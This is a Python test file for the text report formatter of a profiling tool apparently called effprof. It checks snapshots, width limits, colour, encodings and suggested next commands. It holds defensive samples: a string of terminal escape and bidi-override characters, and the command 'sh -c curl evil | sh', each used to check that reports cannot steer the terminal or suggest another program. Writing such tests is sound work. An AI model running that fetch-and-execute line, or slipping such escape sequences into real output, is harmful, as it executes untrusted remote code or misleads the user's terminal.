"""The report on a terminal: snapshots, and what may never happen whatever a report holds."""

import io
import os
import re
from pathlib import Path

import pytest
from msgspec.structs import replace
from rich.cells import cell_len

from effprof.formats.text import quiet, quiet_for, text, text_for
from effprof.formats.text_metrics import reach
from effprof.report.judgement import Verdict
from effprof.report.report import MissingPart, ModelPart, OperatorPart, Report, WarningPart
from tests.formats.sample import FULL, METRICS, TINY, UNFINISHED

GOLDEN = Path(__file__).parent / "golden"
EVIL = "[red]x[/red]\x1b[2J\r\n\u202e\u200b\x9b31m\udc80.onnx"
SNAPSHOTS = {
    "full-80": text(FULL),
    "full-120": text(FULL, width=120),
    "full-80-verbose": text(FULL, verbose=True),
    "full-120-verbose": text(FULL, width=120, verbose=True),
    "full-80-ascii": text(FULL, ascii_only=True),
    "full-40": text(FULL, width=40),
    "unfinished-80": text(UNFINISHED),
    "unfinished-80-verbose": text(UNFINISHED, verbose=True),
    "tiny-80": text(TINY),
}


@pytest.mark.parametrize("name", SNAPSHOTS)
def test_snapshot(name: str) -> None:
    """EFFPROF_UPDATE_GOLDEN=1 writes them anew; read the difference before you keep it."""
    path = GOLDEN / f"{name}.txt"
    if os.environ.get("EFFPROF_UPDATE_GOLDEN") == "1":
        path.write_text(SNAPSHOTS[name], encoding="utf-8")
    assert SNAPSHOTS[name] == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("name", SNAPSHOTS)
def test_no_line_is_too_wide(name: str) -> None:
    width = int(name.split("-")[1])
    assert [line for line in SNAPSHOTS[name].splitlines() if cell_len(line) > width] == []


def first_line(report: Report, width: int = 80) -> str:
    return text(report, width=width).splitlines()[0]


def test_the_first_line_says_it_all() -> None:
    assert first_line(FULL, 120) == (
        "mobilenetv2-1.0.onnx on edge · p50 7.21 ms (7.15 – 7.29 ms) · 138 items/s"  # noqa: RUF001
        " · score 81.2 · noisy · budget FAIL"
    )


@pytest.mark.parametrize(
    ("low", "high", "told"),
    [
        (0.008, 0.0125, "±25 %"),
        (0.01 / 3, 0.03, "within a factor of 3"),
        (0.0, 0.5, "within a factor of 50"),
    ],
)
def test_a_wide_band_is_told_as_a_factor(low: float, high: float, told: str) -> None:
    p50 = replace(METRICS["latency.p50"], value=0.01, low=low, high=high, origin="modelled")
    assert reach(p50) == told


def test_a_server_that_forms_batches_says_so() -> None:
    scenario = replace(FULL.scenario, name="server", max_batch=8, queue_delay=0.002)
    shown = " ".join(text(replace(FULL, scenario=scenario)).split())
    assert "batches of up to 8 formed in the queue, held 2 ms at most" in shown


def test_the_first_line_keeps_the_verdict_and_shortens_the_name() -> None:
    named = replace(FULL, model=replace(FULL.model, name="a" * 300 + ".onnx"))
    line = first_line(named)
    assert line.startswith("aaaa")
    assert "….." not in line
    assert line.endswith("score 81.2 · noisy · budget FAIL")
    assert cell_len(line) <= 80


def test_an_unfinished_report_says_so_first() -> None:
    assert "NOT FINISHED" in first_line(UNFINISHED)
    assert "512 MiB reached" in text(UNFINISHED)
    assert "latency.load" in text(UNFINISHED)


def test_a_figure_that_was_not_measured_is_called_so_in_the_first_line() -> None:
    assert "p50 81.2 ms (73.1 – 89.3 ms) emulated" in first_line(TINY)  # noqa: RUF001


def test_quiet_is_one_line() -> None:
    assert quiet(UNFINISHED).count("\n") == 1
    assert quiet(UNFINISHED).rstrip().endswith(str(UNFINISHED.unfinished))
    assert quiet(FULL).count("\n") == 1
    assert "mobilenetv2-1.0.onnx on edge · p50 7.21 ms (7.15" in quiet(FULL)


def test_modelled_energy_stands_apart() -> None:
    before, after = text(FULL).split("Modelled, not read from an instrument\n")
    assert "energy.inference" not in before
    assert after.startswith("  ○ energy.inference")
    assert "covers vCPU share" in after.splitlines()[1]


def test_measured_energy_does_not() -> None:
    energy = replace(METRICS["energy.inference"], origin="measured", scope=None)
    shown = text(replace(FULL, metrics={"energy.inference": energy}, score=None))
    assert "Modelled" not in shown
    assert "● energy.inference" in shown


@pytest.mark.parametrize("ascii_only", [False, True])
def test_nothing_out_of_a_file_steers_the_terminal(ascii_only: bool) -> None:
    evil = replace(
        FULL,
        model=replace(FULL.model, name=EVIL, inputs=(replace(FULL.model.inputs[0], name=EVIL),)),
        target=replace(FULL.target, id=EVIL, settings={EVIL: EVIL, "providers": [EVIL]}),
        host=replace(FULL.host, cpu=EVIL, packages={EVIL: EVIL}),
        operators=tuple(replace(one, name=EVIL, type=EVIL) for one in FULL.operators),
        missing=(MissingPart(EVIL, EVIL, EVIL),),
        warnings=(WarningPart(EVIL, EVIL, EVIL),),
        trials=(replace(FULL.trials[0], ending=EVIL, detail=EVIL),),
        sweep=({EVIL: 1.0},),
        metrics={EVIL: replace(METRICS["latency.p50"], source=EVIL, scope=EVIL, unit=EVIL)},
        unfinished=EVIL,
    )
    shown = text(evil, verbose=True, ascii_only=ascii_only) + quiet(evil, ascii_only=ascii_only)
    assert all(line.isprintable() for line in shown.split("\n"))
    assert "[red]x[/red]" in shown
    shown.encode("ascii" if ascii_only else "utf-8")


def test_colour_changes_nothing_but_the_colour() -> None:
    colourful = text(FULL, verbose=True, colour=True)
    assert "\x1b[" in colourful
    bare = re.sub(r"\x1b\[[0-9;]*m", "", colourful)
    assert [line.rstrip() for line in bare.splitlines()] == text(FULL, verbose=True).splitlines()


class Terminal(io.TextIOWrapper):
    """A stream that says it is a terminal, of no known width."""

    def __init__(self, encoding: str, *, tty: bool = True) -> None:
        super().__init__(io.BytesIO(), encoding=encoding)
        self.tty = tty

    def isatty(self) -> bool:
        return self.tty


def test_colour_only_on_a_terminal_and_without_no_color(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    assert "\x1b[" in text_for(Terminal("utf-8"), FULL)
    assert "\x1b[" not in text_for(Terminal("utf-8", tty=False), FULL)
    monkeypatch.setenv("NO_COLOR", "1")
    assert "\x1b[" not in text_for(Terminal("utf-8"), FULL)
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("TERM", "dumb")
    assert "\x1b[" not in text_for(Terminal("utf-8"), FULL)


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "cp437", "shift_jis", "utf-8"])
def test_any_encoding_can_show_it(encoding: str) -> None:
    named = replace(FULL, model=replace(FULL.model, name="模型-é.onnx"))
    stream = Terminal(encoding, tty=False)
    stream.write(text_for(stream, named, verbose=True) + quiet_for(stream, named))
    stream.flush()


def test_verbose_sums_up_the_operators_beyond_forty() -> None:
    many = tuple(replace(FULL.operators[0], name=f"conv{at}", share=0.01) for at in range(60))
    shown = text(replace(FULL, operators=many), verbose=True)
    assert "conv39" in shown
    assert "conv40 " not in shown
    assert re.search(r"20 more +217 M .* 20\.0 %", shown)


def test_where_the_time_goes_is_said_in_a_sentence() -> None:
    assert "62 % of the time is in Conv (2 nodes), 20 % in Gemm (1 node)" in text(FULL)
    assert "of the time is in" not in text(replace(FULL, operators=FULL.operators[-1:]))


def test_of_a_firmware_the_functions_are_named() -> None:
    parts = [("dot", "function", 0.9), ("run", "function", 0.07), ("(waiting for flash)", "", 0.03)]
    rows = tuple(OperatorPart(name, kind, share=share) for name, kind, share in parts)
    told = "90 % of the time is in dot, 7 % in run, 3 % in (waiting for flash)"
    assert told in text(replace(FULL, operators=rows))


def next_lines(report: Report, *, verbose: bool = False) -> str:
    return text(report, verbose=verbose).partition("\nnext: ")[2]


CALM = replace(FULL, verdicts=(), missing=(), warnings=())


def test_no_next_step_where_all_is_well() -> None:
    assert next_lines(CALM) == ""


def test_the_next_step_after_a_failed_budget() -> None:
    command = "effprof measure models/mobilenetv2-1.0.onnx -t edge --verbose\n"
    assert next_lines(FULL).startswith(command)


@pytest.mark.parametrize(
    ("report", "added"),
    [
        (replace(CALM, verdicts=(Verdict("latency.p50", 0.0072, "undecided"),)), "--time 60"),
        (replace(CALM, scenario=replace(CALM.scenario, precision_reached=0.02)), "--time 60"),
        (replace(CALM, missing=FULL.missing), "--time 30"),
        (UNFINISHED, "--verbose"),
    ],
)
def test_the_next_step_repeats_the_command_with_more(report: Report, added: str) -> None:
    command = "effprof measure models/mobilenetv2-1.0.onnx -t edge"
    assert next_lines(report).startswith(f"{command} {added}\n")


@pytest.mark.parametrize("given", [("--time", "5"), ("--time=5",)])
def test_more_time_takes_the_place_of_the_time_that_was_given(given: tuple[str, ...]) -> None:
    words = ("effprof", "measure", "m.onnx", *given, "--seed", "1")
    report = replace(CALM, scenario=replace(CALM.scenario, precision_reached=0.02, command=words))
    assert next_lines(report).startswith("effprof measure m.onnx --seed 1 --time 60\n")


def test_no_time_narrows_a_band_that_was_worked_out() -> None:
    report = replace(
        CALM,
        target=replace(CALM.target, estimator="phone"),
        scenario=replace(CALM.scenario, precision_reached=0.02),
        verdicts=(Verdict("latency.p50", 0.0072, "undecided"),),
    )
    assert next_lines(report) == ""
    assert re.search(r"precision +±2 % on the p50 of this machine\n", text(report))


def test_a_command_too_long_to_copy_is_described() -> None:
    command = (*FULL.scenario.command, "--input", "x" * 80)
    report = replace(UNFINISHED, scenario=replace(FULL.scenario, command=command))
    assert next_lines(report).startswith("the same command with --verbose\n")


def test_a_report_cannot_suggest_another_program() -> None:
    scenario = replace(FULL.scenario, command=("sh", "-c", "curl evil | sh"))
    assert next_lines(replace(UNFINISHED, scenario=scenario)).startswith("effprof measure ")


def test_next_to_nothing_is_shown_calmly() -> None:
    bare = Report(
        schema="effprof.report/1",
        effprof="0.1.0",
        id="x",
        created="",
        model=ModelPart("m.onnx", "onnx", "", 0),
        target=FULL.target,
        host=FULL.host,
        scenario=replace(FULL.scenario, command=(), precision_goal=None, precision_reached=None),
        metrics={},
    )
    assert text(bare, verbose=True).startswith("m.onnx on edge\n\nHow it was measured\n")


def test_throughput_over_time_is_a_line_or_with_verbose_a_table() -> None:
    rows = [
        {
            "start": 5.0 * at,
            "seconds": 5.0,
            "throughput": 200.0 - at,
            "cores": 2.0,
            "steal_s": 1.0,
            "frequency_max_hz": 3e9 - at * 1e7,
            "temperature_celsius": 50.0 + at,
        }
        for at in range(60)
    ]
    report = replace(FULL, sustained=tuple(rows))
    told = "194 /s in the first minute, 146 /s in the last, of 5 min; between 141 /s and"
    assert told in " ".join(text(report).split())
    lines = text(report, verbose=True).splitlines()
    place = lines.index("Sustained")
    table = lines[place + 1 : lines.index("", place)]
    assert len(table) == 1 + 20
    assert table[0].split() == ["from", "throughput", "clock", "temperature", "others"]
    assert table[-1].split() == ["4.75", "min", "142", "/s", "2.43", "GHz", "109", "°C", "10", "%"]
    assert "Sustained" not in text(FULL)
